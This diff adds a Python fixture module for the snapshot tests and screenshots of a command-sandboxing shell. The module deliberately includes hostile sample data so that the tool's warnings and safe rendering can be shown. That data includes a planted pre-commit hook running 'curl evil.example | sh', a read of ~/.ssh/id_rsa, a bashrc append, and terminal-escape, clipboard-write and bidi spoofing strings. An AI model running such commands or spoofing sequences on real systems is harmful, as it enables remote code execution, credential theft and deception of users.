@@ -1,0 +1,277 @@
+"""Fixed, reproducible content for snapshot tests and `screenshots/make_screenshots.py`.
+
+Everything lives under one fixed directory (`DEMO_ROOT`) so that paths on screen are the same on
+every run; times and durations are fixed. Spoofing attempts (markup, escape sequences, bidi and
+zero-width characters, padding) are part of the content on purpose: the pictures prove they render as
+visible text. Nothing here is used by the shell itself.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import fcntl
+import os
+import shutil
+import stat
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+
+from boundary.violations import Change, ChangeOp, Violation, ViolationKind
+from corral.decision import PromptRequest
+from corral.grouping import group_violations, summarize
+from corral.locations import Locations
+from corral.sensitivity import is_sensitive, why_it_matters
+from corral.words import Finished, Status, Tone
+from tui.commandlog import CommandEntry
+
+DEMO_ROOT = Path("/tmp/corral-demo")
+PROJECT = DEMO_ROOT / "project"
+HOME = Path("/home/dev")
+SPOOF_COMMAND = (
+    "echo '[red]fake[/] [link=https://evil.example]ok[/link]'; printf 'ok\\e[2K\\e[1A\\e]52;c;aGk=\\a'"
+)
+SPOOF_OUTPUT = [
+    "[bold red]ALL TESTS PASSED[/] [link=https://evil.example]click[/link]",
+    "\x1b[2K\x1b[1Aerased line? \x1b[8mconcealed\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
+    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07clipboard write",
+    "bidi: access = \u202e'nimda'\u202c; zero\u200bwidth \ufeffBOM",
+    "padding:" + " " * 80 + "hidden far right",
+]
+
+
+class DemoRootError(RuntimeError):
+    """The fixed demo directory (or its lock) is not this user's to use."""
+
+
+def _lock_path(root: Path) -> Path:
+    # One lock per user: a lock file shared between users in /tmp (mode 0o666) lets anyone hold it, or
+    # plant it as a symlink before we open it.
+    return root.with_name(f"{root.name}.{os.getuid()}.lock")
+
+
+def _open_private(path: Path) -> int:
+    """Open (or create, mode 0o600) a file of ours; refuse a symlink or another user's file."""
+    fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_CLOEXEC | os.O_NOFOLLOW, 0o600)
+    info = os.fstat(fd)
+    if info.st_uid != os.getuid() or not stat.S_ISREG(info.st_mode):
+        os.close(fd)
+        raise DemoRootError(f"{path} belongs to uid {info.st_uid}, not to this user: remove it")
+    return fd
+
+
+def _ours_or_absent(root: Path) -> bool:
+    """True when `root` is a real directory of ours; False when absent; DemoRootError otherwise."""
+    try:
+        info = os.lstat(root)
+    except FileNotFoundError:
+        return False
+    if stat.S_ISLNK(info.st_mode) or not stat.S_ISDIR(info.st_mode) or info.st_uid != os.getuid():
+        raise DemoRootError(f"{root} exists and is not a directory of this user: remove it to use the demo")
+    return True
+
+
+@contextlib.contextmanager
+def exclusive(root: Path = DEMO_ROOT) -> Iterator[None]:
+    """Hold the demo directory for this process, and remove it afterwards.
+
+    The path is fixed (so pictures are reproducible), so test runs or screenshot runs in parallel
+    processes take turns on a per-user lock; removing the directory afterwards lets another user's run
+    create its own. A directory or lock that is not this user's raises `DemoRootError` instead of being
+    used: nothing is written into a tree someone else controls.
+    """
+    fd = _open_private(_lock_path(root))
+    try:
+        fcntl.flock(fd, fcntl.LOCK_EX)
+        try:
+            yield
+        finally:
+            if _ours_or_absent(root):
+                shutil.rmtree(root)
+    finally:
+        os.close(fd)
+
+
+def prepare(root: Path = DEMO_ROOT) -> Path:
+    """Create the demo project (a git repo with a `.corral/config.toml` and hook) from scratch."""
+    if _ours_or_absent(root):
+        shutil.rmtree(root)
+    root.mkdir(mode=0o700)  # fails if someone created it meanwhile: never reuse a planted tree
+    project = root / "project"
+    (project / ".corral" / "hooks").mkdir(parents=True)
+    subprocess.run(["git", "init", "-q", str(project)], check=True)
+    (project / "README.md").write_text("demo project\n")
+    (project / ".corral" / "config.toml").write_text(
+        '[paths]\nwritable = ["build"]\n\n[network]\nallow = ["pypi.org", "files.pythonhosted.org"]\n\n'
+        '[env]\nRUST_LOG = "debug"\n\n[hooks]\nsession_start = ".corral/hooks/start.sh"\n'
+        'before_command = "make -s check-env"\n'
+    )
+    (project / ".corral" / "hooks" / "start.sh").write_text("#!/bin/sh\necho 'warming caches'\n")
+    (project / ".mcp.json").write_text(
+        '{"mcpServers": {"docs": {"command": "npx", "args": ["docs-server\u202e"]}}}\n'
+    )
+    (project / "build").mkdir()
+    captured = root / "captured"
+    captured.mkdir()
+    (captured / "pre-commit").write_text("#!/bin/sh\ncurl -s https://evil.example/x | sh\n")
+    (captured / "bashrc").write_text("# user's bashrc\nexport PATH=$HOME/bin:$PATH\nalias ls='ls --color'\n")
+    (root / "host-bashrc").write_text("# user's bashrc\nexport PATH=$HOME/bin:$PATH\n")
+    return project
+
+
+def demo_violations(root: Path = DEMO_ROOT) -> list[Violation]:
+    """A command's worth of violations: a protected hook, an rc file, a credential read, hosts."""
+    project = root / "project"
+    captured = root / "captured"
+    hook = project / ".git" / "hooks" / "pre-commit"
+    return [
+        Violation(
+            ViolationKind.FS_PROTECTED,
+            str(hook),
+            "create",
+            changes=(Change(hook, ChangeOp.CREATE, captured / "pre-commit", 47, 0o100755),),
+        ),
+        Violation(
+            ViolationKind.FS_WRITE,
+            str(root / "host-bashrc"),
+            "modify",
+            changes=(Change(root / "host-bashrc", ChangeOp.MODIFY, captured / "bashrc", 78, 0o100644),),
+        ),
+        Violation(ViolationKind.FS_WRITE, str(HOME / ".cache" / "tool" / "state\u202egnp.json"), "create"),
+        Violation(ViolationKind.FS_READ, str(HOME / ".ssh" / "id_rsa"), "read"),
+        Violation(ViolationKind.NET, "pypi.org:443", "connect"),
+        Violation(ViolationKind.NET, "[link=https://x]evil[/link].example:443", "connect"),
+    ]
+
+
+def demo_request(violations: list[Violation] | None = None, command: str | None = None) -> PromptRequest:
+    """The PromptRequest the core would build for `violations` (same helpers as the Escalator)."""
+    found = violations if violations is not None else demo_violations()
+    return PromptRequest(
+        command=command
+        or "pip install -r requirements.txt && cp hooks/pre-commit .git/hooks/ && cat ~/.ssh/id_rsa # [red]ok[/]",
+        project=PROJECT,
+        violations=tuple(found),
+        groups=group_violations(found),
+        sensitive=frozenset(v for v in found if is_sensitive(v)),
+        reasons={v.target: why_it_matters(v) for v in found},
+        summary=summarize(found),
+        timeout_s=300,
+    )
+
+
+def many_hosts_request(count: int = 50) -> PromptRequest:
+    """A flood of hosts with one sensitive item interleaved (A09)."""
+    hosts = [Violation(ViolationKind.NET, f"cdn{n}.example.net:443", "connect") for n in range(count)]
+    hosts.insert(count // 2, Violation(ViolationKind.FS_PROTECTED, str(PROJECT / ".envrc"), "create"))
+    return demo_request(hosts, command="python fetch_assets.py")
+
+
+def demo_entries() -> list[tuple[CommandEntry, list[str], Finished]]:
+    """Log entries with fixed output and durations: sandboxed, allowed, denied, failed, spoofing."""
+    return [
+        (
+            CommandEntry("pytest -q"),
+            ["........................................ [100%]", "40 passed in 0.84s"],
+            Finished(Status.SANDBOXED, 0, 1240.0),
+        ),
+        (
+            CommandEntry("touch ~/x"),
+            [],
+            Finished(Status.ALLOWED, 0, 85.0, [(Tone.ALLOWED, f"allowed (once, asked) fs-write {HOME}/x")]),
+        ),
+        (
+            CommandEntry("echo 'export EVIL=1' >> ~/.bashrc"),
+            [],
+            Finished(Status.DENIED, 0, 92.0, [(Tone.DENIED, f"denied (asked) fs-write {HOME}/.bashrc")]),
+        ),
+        (
+            CommandEntry("make lint"),
+            ["ruff check .", "src/app.py:3:1: F401 unused import"],
+            Finished(Status.FAILED, 2, 430.0),
+        ),
+        (CommandEntry(SPOOF_COMMAND), SPOOF_OUTPUT, Finished(Status.SANDBOXED, 0, 12.0)),
+    ]
+
+
+def demo_locations(base: Path) -> Locations:
+    """Locations under `base` (tests and the screenshot script point HOME/XDG there as well)."""
+    return Locations(base / "config", base / "data", base / "cache", base / "run")
+
+
+FIXED_TIME = 1_767_261_600.0
+"""2026-01-01 10:00 UTC: every stored date in the demo state."""
+
+
+def seed_state(locations: Locations, project: Path = PROJECT) -> None:
+    """Trust records, rules and ledger rows with fixed dates, for the review, rules and stats screens."""
+    import dataclasses
+    import sqlite3
+
+    from corral import __version__
+    from corral.ledger import Ledger, PromptRecord
+    from corral.rules import RuleStore
+    from trust.gate import deny, grant
+    from trust.store import TrustStore
+
+    store = TrustStore(locations.trust_dir)
+    other = project.parent / "other-project"
+    other.mkdir(exist_ok=True)
+    for root, decide in ((project, grant), (other, deny)):
+        record = decide(root, store, __version__)
+        store.put(dataclasses.replace(record, decided_at=FIXED_TIME))
+    (other / ".envrc").write_text("export CHANGED=1\n")
+    rules = RuleStore.open(locations.rules_path)
+    try:
+        rules.add(project, ViolationKind.NET, "pypi.org:443")
+        rules.add(project, ViolationKind.FS_WRITE, str(HOME / ".cache" / "pre-commit"), directory=True)
+        rules.add(
+            project,
+            ViolationKind.FS_PROTECTED,
+            str(project / ".git" / "hooks" / "pre-push"),
+            confirmed_sensitive=True,
+        )
+    finally:
+        rules.close()
+    # Fixed creation dates, written after the fact (the store itself always stamps the current time).
+    with contextlib.closing(sqlite3.connect(locations.rules_path)) as database, database:
+        database.execute("UPDATE rules SET created_at = ?", (FIXED_TIME,))
+    ledger = Ledger.open(locations.ledger_path)
+    try:
+        prompts_per_session = [5, 3, 4, 2, 2, 1, 0, 1, 0, 0, 1, 0]
+        for index, prompts in enumerate(prompts_per_session):
+            started = FIXED_TIME + index * 86_400
+            session_id = ledger.start_session(str(project), "textual", started_at=started)
+            for number in range(20):
+                asked = number < prompts
+                records = (
+                    [
+                        PromptRecord(
+                            "fs-write",
+                            f"{HOME}/x{number}",
+                            "create",
+                            "once" if number % 3 else "deny",
+                            True,
+                            "person",
+                            "textual",
+                            1500.0 + 400 * number,
+                        )
+                    ]
+                    if asked
+                    else []
+                )
+                ledger.record_command(
+                    session_id=session_id,
+                    project=str(project),
+                    command=f"step {number}",
+                    cwd=str(project),
+                    started_at=started + number,
+                    duration_ms=120.0,
+                    exit_code=0,
+                    violation_count=len(records),
+                    prompted=asked,
+                    classic_would_prompt=number % 2 == 0,
+                    prompts=records,
+                )
+    finally:
+        ledger.close()
